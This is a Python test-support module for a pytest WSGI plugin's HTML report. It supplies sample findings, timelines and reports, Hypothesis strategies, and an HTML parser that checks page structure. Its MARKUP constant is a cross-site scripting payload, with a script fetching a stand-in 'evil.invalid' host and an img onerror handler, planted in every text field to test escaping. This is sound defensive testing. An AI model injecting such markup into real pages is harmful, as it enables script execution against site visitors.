"""Reports that show all that the HTML page can show, and what reads the page again."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from itertools import pairwise

from hypothesis import strategies as st

from pytest_wsgi.report import (
    Change,
    Excerpt,
    FileReach,
    Proof,
    Reach,
    Standing,
    Stimulus,
    TimelineEvent,
)
from sample_reports import make_finding, make_mixed_report, make_report, make_rule, texts

MARKUP = """"'></style><script>fetch('http://evil.invalid/')</script><img src=x onerror=alert(1)>"""
"""What would be markup anywhere in a page: in a text, an attribute, a style sheet."""

VOID = {"meta", "link", "input", "br", "img", "rect", "circle", "path"}


def make_event(number=1, source="server", target="application", **changes):
    values = {"number": number, "source": source, "target": target, "text": f"event {number}"}
    return TimelineEvent(**{**values, **changes})


TIMELINE = (
    make_event(1, text="application(environ, start_response)"),
    make_event(
        2,
        "application",
        "server",
        text="start_response(b'200 OK', [('Content-Type', 'text/plain')])",
        offending=True,
    ),
    make_event(9, "application", "server", text="the iterable ended", skipped=6),
)

EXCERPT = Excerpt(
    first=10,
    lines=(
        "",
        "def application(environ, start_response):",
        '    start_response(b"200 OK", HEADERS)',
        '    return [b"hello"]',
    ),
)


def make_stimulus(**changes):
    environ = {
        "REQUEST_METHOD": "'GET'",
        "SCRIPT_NAME": "''",
        "PATH_INFO": "'/'",
        "QUERY_STRING": "''",
        "SERVER_NAME": "'localhost'",
        "SERVER_PORT": "'80'",
        "SERVER_PROTOCOL": "'HTTP/1.1'",
        "HTTP_HOST": "'localhost'",
        "wsgi.version": "(1, 0)",
        "wsgi.url_scheme": "'http'",
        "wsgi.multithread": "False",
        "wsgi.multiprocess": "False",
        "wsgi.run_once": "False",
    }
    environ |= changes.pop("environ", {})
    return Stimulus(environ=environ, **changes)


def make_full_finding(**changes):
    values = {"excerpt": EXCERPT, "timeline": TIMELINE, "stimulus": make_stimulus()}
    return make_finding(**{**values, **changes})


def make_layered_finding():
    """Return a finding that is shown on its way through many layers."""
    lanes = ("server", *(f"a_long_package.and_module.Layer{number}" for number in range(6)))
    ways = [*pairwise(lanes), *pairwise(reversed(lanes))]
    timeline = tuple(
        make_event(number, *way, text="start_response(b'200 OK', 2 headers)", offending=number == 7)
        for number, way in enumerate(ways, start=1)
    )
    return make_full_finding(expected="less", layer=lanes[-1], lanes=lanes, timeline=timeline)


def make_full_rule(**changes):
    values = {
        "findings": (make_full_finding(),),
        "fixes": {"Bare": "pass text.", "Django": "the handler does it."},
        "rerun": "pytest --wsgi-app mysite.wsgi.application mysite/wsgi.py::application::x",
    }
    return make_rule(**{**values, **changes})


STANDING = Standing(
    file="wsgi-known.toml",
    changes=(
        Change(state="new", rule="status-is-native-string", finding="1a", shows="got bytes"),
        Change(
            state="known",
            rule="known-1",
            finding="2b",
            reason="the old pages",
            first_seen="2026-01-31",
            expires="2027-01-31",
            issue="https://issues.example/7",
        ),
        Change(state="fixed", rule="held-1", finding="3c", shows="got None", reason="an old one"),
        Change(state="later", rule="gone", finding="4d"),
    ),
)


REACH = Reach(
    files=(
        FileReach(file="mysite/urls.py", lines=12, reached=12),
        FileReach(file="mysite/views.py", lines=80, reached=12, missing="9-70, 75-80"),
    )
)


def make_full_report():
    """Return a report with every part that the page has."""
    report = make_mixed_report()
    rules = (make_full_rule(), *report.rules[1:])
    return make_report(
        *rules,
        ignored=report.ignored,
        unjudged=2,
        proof=Proof(rules=176, mutants=400, twins=176, controls=90),
        standing=STANDING,
        reach=REACH,
    )


evidence = st.builds(
    make_finding,
    layer=texts,
    message=texts,
    lanes=st.lists(texts | st.sampled_from(["server", "application"]), max_size=12).map(tuple),
    excerpt=st.none()
    | st.builds(Excerpt, first=st.integers(), lines=st.lists(texts, max_size=4).map(tuple)),
    timeline=st.lists(
        st.builds(
            TimelineEvent,
            number=st.integers(),
            source=texts | st.sampled_from(["server", "application", "inner application"]),
            target=texts,
            text=texts,
            offending=st.booleans(),
            skipped=st.integers(),
        ),
        max_size=4,
    ).map(tuple),
    stimulus=st.none()
    | st.builds(
        Stimulus,
        environ=st.dictionaries(
            texts | st.sampled_from(["REQUEST_METHOD", "PATH_INFO", "QUERY_STRING", "HTTP_HOST"]),
            texts | texts.map(repr) | st.sampled_from(["'GET'", "'/'", "1", "True", "(1, 0)"]),
            max_size=5,
        ),
        withheld=st.lists(texts, max_size=2).map(tuple),
        body_length=st.integers(max_value=2**60),
        reading=texts | st.sampled_from(["complete", "first block", "closed twice"]),
        under_validator=st.booleans(),
    ),
)
"""Findings with any evidence."""


def spoil(value, text=MARKUP):
    """Return a value with a text in every field that holds text, but those with fixed words."""
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(spoil(item, text) for item in value)
    if isinstance(value, dict):
        return {f"{text}{number}": spoil(item, text) for number, item in enumerate(value.values())}
    if is_dataclass(value):
        fixed = {"verdict", "level", "kind", "environ", "source", "target", "state"}
        changes = {
            field.name: spoil(getattr(value, field.name), text)
            for field in fields(value)
            if field.name not in fixed
        }
        return replace(value, **changes)
    return value


class Page(HTMLParser):
    """A page that was read: its elements in order, those that are open, and all of its text."""

    def __init__(self, text):
        super().__init__()
        self.elements = []
        self.open = []
        self.words = []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))
        assert len(dict(attributes)) == len(attributes)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.words.append(data)

    @property
    def text(self):
        return " ".join(" ".join(self.words).split())

    def find(self, *tags):
        return [attributes for tag, attributes in self.elements if tag in tags]

    @property
    def ids(self):
        return [attributes["id"] for _, attributes in self.elements if "id" in attributes]

    @property
    def shape(self):
        """The elements with the names of their attributes."""
        return [(tag, tuple(attributes)) for tag, attributes in self.elements]
